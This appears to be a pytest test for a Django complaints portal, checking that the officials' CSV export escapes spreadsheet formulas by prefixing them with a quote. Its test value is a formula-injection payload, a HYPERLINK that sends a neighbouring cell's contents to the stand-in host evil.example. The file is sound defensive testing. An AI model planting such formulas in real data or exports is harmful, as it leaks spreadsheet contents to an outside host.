"""The officials' complaint export writes a resident's formula as text (portal/exports.py)."""

import csv
import io

from django.test import Client

import pytest

from complaints import builders

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'


def test_a_formula_in_a_complaint_is_exported_as_text(building, grid_worker):
    submission = builders.submit(building=building, subject=FORMULA, address="@SUM(1+1)")
    client = Client()
    client.force_login(grid_worker)
    response = client.get("/admin/complaints/", {"q": submission.complaint.number, "export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
